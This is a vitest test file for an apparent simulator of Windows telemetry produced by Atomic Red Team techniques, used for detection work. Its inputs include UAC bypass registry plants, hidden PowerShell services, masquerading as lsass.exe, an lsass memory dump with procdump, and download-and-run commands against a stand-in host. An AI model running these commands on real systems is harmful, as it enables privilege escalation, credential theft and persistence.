/** Programs that start children beyond their command line, each case taken from the Atomic test that needs it. */
import { afterAll, describe, expect, it } from 'vitest';
import { commandLines, processes, ofCategory, run } from './helpers.ts';
import { removeTemp, tempDir } from '../safety/helpers.ts';

afterAll(removeTemp);

const image = (f: Record<string, unknown>) => String(f['Image']).split('\\').pop()!.toLowerCase();

describe('followers', () => {
  it('query user starts quser.exe (T1087.001 #10)', () => {
    const p = processes(run('command_prompt', 'query user'));
    expect(p.map(image)).toEqual(['cmd.exe', 'query.exe', 'quser.exe']);
    expect(p[2]!['ParentImage']).toBe('C:\\Windows\\System32\\query.exe');
  });
  it('Add-Type with C# source starts csc.exe, which starts cvtres.exe (T1113 #7); -AssemblyName does not', () => {
    const p = processes(
      run(
        'powershell',
        'Add-Type -MemberDefinition \'[DllImport("user32.dll")] public static extern void mouse_event(int flags, int dx, int dy, int cButtons, int info);\' -Name U32 -Namespace W;',
      ),
    );
    expect(p.map(image)).toEqual(['powershell.exe', 'csc.exe', 'cvtres.exe']);
    expect(p[1]!['ParentImage']).toMatch(/powershell\.exe$/);
    expect(String(p[1]!['CommandLine'])).toContain('\\AppData\\Local\\Temp\\');
    expect(p[2]!['ParentImage']).toMatch(/csc\.exe$/);
    expect(processes(run('powershell', 'Add-Type -AssemblyName System.Windows.Forms')).map(image)).toEqual(['powershell.exe']);
  });
  it('sc create then sc start runs the service binary as SYSTEM under services.exe, and the install is a 7045 (T1569.002 #1)', () => {
    const events = run(
      'command_prompt',
      'sc.exe create ARTService binPath= "%COMSPEC% /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt"\nsc.exe start ARTService',
      { elevationRequired: true },
    );
    const service = processes(events).find((f) => f['ParentImage'] === 'C:\\Windows\\System32\\services.exe');
    expect(String(service?.['Image']).toLowerCase()).toBe('c:\\windows\\system32\\cmd.exe');
    expect(service).toMatchObject({ User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' });
    expect(commandLines(events)).toContain('powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt');
    expect(events.filter((e) => e.logsource.service === 'system').map((e) => e.fields)).toEqual([
      {
        EventID: 7045,
        Provider_Name: 'Service Control Manager',
        ServiceName: 'ARTService',
        ImagePath: 'C:\\Windows\\system32\\cmd.exe /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt',
        ServiceType: 'user mode service',
        StartType: 'demand start',
        AccountName: 'LocalSystem',
      },
    ]);
  });
  it('net start of a service the test created (T1563.002 #1); a driver starts no process (T1564.006 #1)', () => {
    const p = processes(
      run('command_prompt', 'sc.exe create sesshijack binpath= "cmd.exe /k tscon 1337 /dest:rdp-tcp#55"\nnet start sesshijack', { elevationRequired: true }),
    );
    expect(p.filter((f) => f['User'] === 'NT AUTHORITY\\SYSTEM').map(image)).toEqual(['cmd.exe', 'tscon.exe']);
    const driver = processes(
      run(
        'command_prompt',
        'sc create VBoxDRV binpath= "C:\\Program Files\\Oracle\\VirtualBox\\drivers\\VboxDrv.sys" type= kernel start= auto\nsc start VBoxDRV',
      ),
    );
    expect(driver.filter((f) => f['User'] === 'NT AUTHORITY\\SYSTEM')).toEqual([]);
  });
  it('fodhelper runs the command planted under ms-settings, at High integrity (T1548.002 #3)', () => {
    const p = processes(
      run(
        'command_prompt',
        'reg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /ve /d "C:\\Windows\\System32\\cmd.exe" /f\nreg.exe add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /v "DelegateExecute" /f\nfodhelper.exe',
      ),
    );
    const child = p.find((f) => String(f['ParentImage']).toLowerCase().endsWith('fodhelper.exe'));
    expect(child).toMatchObject({ Image: 'C:\\Windows\\System32\\cmd.exe', IntegrityLevel: 'High' });
  });
  it('eventvwr.msc opened through a planted mscfile verb runs the planted command (T1548.002 #1)', () => {
    const p = processes(
      run(
        'command_prompt',
        'reg.exe add hkcu\\software\\classes\\mscfile\\shell\\open\\command /ve /d "C:\\Windows\\System32\\cmd.exe" /f\ncmd.exe /c eventvwr.msc',
      ),
    );
    expect(p.map(image)).not.toContain('mmc.exe');
    expect(p.map(image).filter((n) => n === 'cmd.exe').length).toBe(3);
  });
  it('mshta inline VBScript runs the command it passes to WScript.Shell.Run (T1218.005 #2)', () => {
    const p = processes(
      run(
        'command_prompt',
        'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -noexit -file C:\\AtomicRedTeam\\atomics\\T1218.005\\src\\powershell.ps1"":close")',
      ),
    );
    const child = p.find((f) => String(f['ParentImage']).endsWith('mshta.exe'));
    expect(child).toMatchObject({
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: 'powershell -noexit -file C:\\AtomicRedTeam\\atomics\\T1218.005\\src\\powershell.ps1',
    });
  });
  it('SyncAppvPublishingServer.vbs runs its argument in powershell.exe (T1216.002 #1)', () => {
    const events = run('command_prompt', 'C:\\windows\\system32\\SyncAppvPublishingServer.vbs "\\n;Start-Process calc"');
    const p = processes(events);
    expect(p.map(image)).toEqual(['cmd.exe', 'wscript.exe', 'powershell.exe', 'calc.exe']);
    expect(String(p[2]!['CommandLine'])).toContain('Sync-AppvPublishingServer \\n;Start-Process calc}');
    expect(ofCategory(events, 'ps_script').length).toBe(1);
  });
});

describe('fields', () => {
  it('a renamed copy of cmd.exe keeps its version information (cmd copy and Copy-Item)', () => {
    const viaCmd = processes(run('command_prompt', 'copy %SystemRoot%\\System32\\cmd.exe %TEMP%\\lsass.exe\n%TEMP%\\lsass.exe /c whoami'));
    const lsass = viaCmd.find((f) => String(f['Image']).endsWith('\\lsass.exe'));
    expect(lsass).toMatchObject({
      Image: 'C:\\Users\\atomic\\AppData\\Local\\Temp\\lsass.exe',
      OriginalFileName: 'Cmd.Exe',
      Description: 'Windows Command Processor',
      Company: 'Microsoft Corporation',
    });
    const viaPs = processes(
      run('powershell', 'Copy-Item -Path C:\\Windows\\System32\\cmd.exe -Destination $env:TEMP\\svchost.exe\n& "$env:TEMP\\svchost.exe" /c whoami'),
    );
    expect(viaPs.find((f) => String(f['Image']).endsWith('\\svchost.exe'))?.['OriginalFileName']).toBe('Cmd.Exe');
  });
  it('a program that is not a copy has no borrowed metadata; a downloaded tool has its own', () => {
    const p = processes(run('command_prompt', '%TEMP%\\lsass.exe\nC:\\AtomicRedTeam\\ExternalPayloads\\procdump.exe -accepteula -ma lsass.exe out.dmp'));
    expect(p[1]!['OriginalFileName']).toBeUndefined();
    expect(p[2]).toMatchObject({ OriginalFileName: 'procdump', Description: 'Sysinternals process dump utility' });
  });
  it('LogonId: the session of the test user (another for an elevated token), 0x3e7 for SYSTEM', () => {
    expect(processes(run('command_prompt', 'whoami'))[1]!['LogonId']).toBe('0x2c5e1f');
    expect(processes(run('command_prompt', 'whoami', { elevationRequired: true }))[1]).toMatchObject({ LogonId: '0x2c5e4a', IntegrityLevel: 'High' });
    const service = processes(run('command_prompt', 'sc create x binPath= "C:\\x.exe"\nsc start x')).find((f) => f['User'] === 'NT AUTHORITY\\SYSTEM');
    expect(service?.['LogonId']).toBe('0x3e7');
  });
});

describe('review fixes', () => {
  it('a scriptlet loaded by mshta runs its JScript .Run string with escapes undone (T1059.001 #8)', async () => {
    const { simulateTest } = await import('../../src/lib/simulate/harness.ts');
    const { PayloadStore } = await import('../../src/lib/simulate/payload-store.ts');
    const { writeFileSync } = await import('node:fs');
    const path = await import('node:path');
    const dir = tempDir('sct');
    writeFileSync(
      path.join(dir, 'mshta.sct'),
      '<scriptlet><script language="JScript"><![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("powershell -c \\"write-host \'ok\'\\""); ]]></script></scriptlet>',
    );
    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/mshta.sct': { file: 'mshta.sct' } }));
    const run = simulateTest(
      {
        guid: 'g',
        platforms: ['windows'],
        executor: 'command_prompt',
        elevationRequired: false,
        commandResolved: "mshta.exe javascript:a=GetObject('script:https://h/mshta.sct').Exec();close()",
      },
      PayloadStore.open(dir, undefined),
    );
    expect(processes(run.events).find((f) => String(f['ParentImage']).endsWith('mshta.exe'))?.['CommandLine']).toBe('powershell -c "write-host \'ok\'"');
  });
  it('Invoke-Expression inside a string value is not run now (T1547.001 #3: a RunOnce value)', () => {
    const events = run(
      'powershell',
      `set-itemproperty $RunOnceKey "NextRun" 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(\`"https://h/Discovery.bat\`")"'`,
    );
    expect(events.some((e) => e.source)).toBe(false);
  });
});
